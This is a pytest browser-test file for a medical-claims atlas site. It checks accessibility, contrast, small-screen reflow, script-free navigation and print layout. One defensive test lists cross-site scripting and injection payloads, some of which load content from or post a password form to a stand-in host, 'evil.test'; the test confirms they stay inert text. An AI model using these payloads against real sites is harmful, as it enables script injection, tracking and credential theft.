"""The public pages in a real browser: accessible, narrow, without script, and inert whatever a source holds."""

import re

import pytest

from articles.models import Article
from claims.models import Claim
from claims.services import advance
from claims.workflow import Move
from tests.factories.accounts import InterestStatementFactory, ReviewerFactory
from tests.factories.articles import ArticleFactory, SnapshotFactory, SourceFactory, StudyFactory, TextVersionFactory
from tests.factories.claims import NOW, PublishedClaimFactory
from tests.factories.vocabulary import (
    AdverseEventFactory,
    BiomarkerFactory,
    MechanismFactory,
    SubtypeFactory,
    TermFactory,
)

TEXT = (
    "Combination shrinks tumours in breast cancer 🎗\n\n"
    "Eleven of 40 patients with triple-negative breast cancer responded to pembrolizumab. Three had pneumonitis.\n\n"
    "“We saw e\u0301lan in every site,” said Professor A. Example.\n\n"
    "About the institute. It was founded long ago.\n\n"
    "Contact: press@example.org"
)


@pytest.fixture
def atlas(transactional_db):
    """A small atlas with both directions, a gap, a retracted claim, a sample and a source without full text."""
    therapy = TermFactory(
        preferred_name="pembrolizumab", named=["Keytruda"], under=[TermFactory(preferred_name="PD-1")]
    )
    subtype = SubtypeFactory(preferred_name="triple-negative breast cancer")
    others = [MechanismFactory(), BiomarkerFactory(), AdverseEventFactory()]
    open_source = SourceFactory(full_text=True, sample=True, slug="samples")
    free = TextVersionFactory(text=TEXT, snapshot=SnapshotFactory(article=ArticleFactory(source=open_source)))
    closed = TextVersionFactory(text=TEXT.replace("Eleven", "Twelve"))
    study = StudyFactory()
    words = "of 40 patients with triple-negative breast cancer responded to pembrolizumab."
    claims = {
        "yes": PublishedClaimFactory(text=free, exact=f"Eleven {words}", terms=[therapy, subtype], study=study),
        "no": PublishedClaimFactory(
            text=closed, exact=f"Twelve {words}", terms=[therapy, subtype], direction="does_not_support",
            proposition="Pembrolizumab cures triple-negative breast cancer.",
            study_design="phase_3", confirmatory=True,
        ),
        "gap": PublishedClaimFactory(
            text=free, exact="Three had pneumonitis.", terms=[therapy, *others], claim_type="knowledge_gap",
            direction="not_applicable", significance="not_applicable", study_design="expert_opinion",
            proposition="Nobody knows why pneumonitis is rare.",
        ),
    }  # fmt: skip
    claims["retracted"] = _retracted(
        PublishedClaimFactory(text=free, exact=["responded to pembrolizumab"], terms=[therapy])
    )
    return {"therapy": therapy, "subtype": subtype, **claims}


def _retracted(claim: Claim) -> Claim:
    reviewer = ReviewerFactory()
    InterestStatementFactory(user=reviewer, stated_at=NOW)
    return advance(
        claim_id=claim.pk, move=Move.RETRACT, lock=claim.lock, by=reviewer, now=NOW, reason="The figure was wrong."
    )


def pages(atlas) -> list[str]:
    """Every kind of public page."""
    return [
        "/", "/about/", "/claims/", "/claims/?level=A&q=pembrolizumab", "/articles/",
        "/therapies/", "/therapies/?q=key", "/therapies/?all=on",
        "/subtypes/", "/mechanisms/", "/biomarkers/", "/adverse-events/",
        f"/therapies/{atlas['therapy'].slug}/", f"/subtypes/{atlas['subtype'].slug}/",
        *(f"/claims/{atlas[name].pk}/" for name in ("yes", "no", "gap", "retracted")),
        f"/claims/{atlas['yes'].pk}/?v=1",
        *(f"/articles/{atlas[name].article_id}/" for name in ("yes", "no")), "/accounts/login/",
    ]  # fmt: skip


def test_public_pages_have_no_accessibility_fault(visitor, atlas, accessibility):
    for address in pages(atlas):
        assert visitor.goto(address).status == 200, address
        assert accessibility(visitor, best_practice=True) == [], address


def test_public_pages_keep_their_contrast_in_the_dark(visitors, atlas, accessibility):
    page = visitors(viewport={"width": 1280, "height": 900}, color_scheme="dark")
    for address in pages(atlas):
        page.goto(address)
        assert accessibility(page, rules=["color-contrast"]) == [], address


def test_error_pages_have_no_accessibility_fault(visitor, atlas, accessibility):
    visitor.expected |= {404, 400}
    for address in ("/claims/999999/", "/nothing-here/", "/claims/?levle=A", "/therapies/none/"):
        assert visitor.goto(address).status in {400, 404}
        assert accessibility(visitor, best_practice=True) == [], address


def test_public_pages_reflow_at_320_pixels(visitors, atlas, accessibility):
    page = visitors(viewport={"width": 320, "height": 700})
    for address in pages(atlas):
        page.goto(address)
        assert page.evaluate("document.documentElement.scrollWidth") == 320, address
        assert accessibility(page, rules=["target-size", "scrollable-region-focusable"]) == [], address


def test_a_reader_without_script_goes_from_home_to_the_words(plain_visitor, atlas):
    plain_visitor.goto("/")
    plain_visitor.get_by_role("link", name="Pembrolizumab").first.click()
    plain_visitor.locator(".claim-card").get_by_role("link", name=atlas["yes"].proposition).click()
    plain_visitor.get_by_role("link", name=atlas["yes"].article.title).click()
    plain_visitor.get_by_role("link", name="To its words").first.click()
    plain_visitor.wait_for_url(re.compile("#words-"))
    mark = plain_visitor.locator("mark").first
    assert mark.inner_text().startswith("Eleven of 40 patients")
    plain_visitor.get_by_role("link", name="Claim 1, Supports").first.click()
    plain_visitor.wait_for_url(re.compile(f"#claim-{atlas['yes'].pk}$"))


def test_a_reader_without_script_searches_and_filters(plain_visitor, atlas):
    plain_visitor.goto("/")
    plain_visitor.get_by_label("Search the claims").fill("Keytruda")
    plain_visitor.get_by_role("button", name="Search").click()
    plain_visitor.get_by_role("status").filter(has_text=re.compile(r"^\s*3 claims")).wait_for()
    plain_visitor.get_by_label("Level").select_option("A")
    plain_visitor.get_by_role("button", name="Show").click()
    plain_visitor.get_by_role("status").filter(has_text=re.compile(r"^\s*1 claim,")).wait_for()


def test_words_and_claim_light_up_together(visitor, atlas):
    visitor.goto(f"/articles/{atlas['yes'].article_id}/")
    visitor.locator("mark").first.hover()
    entry = visitor.locator(f"#claim-{atlas['yes'].pk}")
    assert "is-near" in (entry.get_attribute("class") or "")


XSS = [
    "<script>window.__x=1</script>",
    "<img src=x onerror=window.__x=1>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<svg onload=window.__x=1>",
    "<svg><animate onbegin=window.__x=1 attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=window.__x=1></style></svg>",
    "<math><mi//xlink:href='javascript:window.__x=1'>",
    "<template><img src=x onerror=window.__x=1></template>",
    "<iframe srcdoc='&lt;script&gt;window.__x=1&lt;/script&gt;'>",
    "<embed src='//evil.test/x.swf'>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__x=1'>",
    "<link rel=stylesheet href='//evil.test/x.css'>",
    "<style>@import '//evil.test/x.css'</style>",
    "<p style='background:url(//evil.test/t.gif)'>tracker</p>",
    "<form action='//evil.test/'><input name=password></form>",
    "<details open ontoggle=window.__x=1>",
    "<xss style='display:block' onpointerover=window.__x=1>y</xss>",
    "<title></title><img src=x onerror=window.__x=1>",
    "<!--><img src=x onerror=window.__x=1>-->",
    "</title><script>window.__x=1</script>",
    "\"'><script>window.__x=1</script>",
    "javascript:window.__x=1",
    "{{ 7*7 }}{% now 'Y' %}",
    "]]><script>window.__x=1</script>",
    "<a href='javascript:window.__x=1'>x</a>",
    "\u202e<script>window.__x=1</script>",
]


def test_markup_in_sources_stays_text(visitor, transactional_db):
    lines = "\n\n".join(f"Line {number} {payload} ends." for number, payload in enumerate(XSS))
    text = TextVersionFactory(
        text=f"Title {XSS[0]}\n\n{lines}",
        snapshot=SnapshotFactory(article=ArticleFactory(source=SourceFactory(full_text=True, name=XSS[1]))),
    )
    Article.objects.filter(pk=text.snapshot.article_id).update(title=XSS[-7], publisher=XSS[-6])
    therapy = TermFactory(preferred_name=f"drug {XSS[1]}", slug="drug")
    exact = [f"Line {number} {payload} ends." for number, payload in enumerate(XSS)]
    claim = PublishedClaimFactory(text=text, exact=exact, terms=[therapy], proposition=XSS[-6], note=XSS[0])
    for address in (
        "/", "/claims/", "/articles/", "/therapies/", "/therapies/drug/", f"/claims/{claim.pk}/",
        f"/articles/{claim.article_id}/",
    ):  # fmt: skip
        assert visitor.goto(address).status == 200
        assert visitor.evaluate("window.__x") is None, address
    shown = visitor.locator(".reader").inner_text()
    assert all(payload.replace("\u202e", "") in shown.replace("\u202e", "") for payload in XSS)


def test_paper_carries_the_words_and_not_the_menus(visitor, atlas):
    visitor.goto(f"/claims/{atlas['yes'].pk}/")
    visitor.emulate_media(media="print")
    assert not visitor.get_by_role("navigation", name="Site").is_visible()
    assert visitor.locator("blockquote").first.is_visible()
    assert visitor.get_by_text("For research, not for treatment.").is_visible()
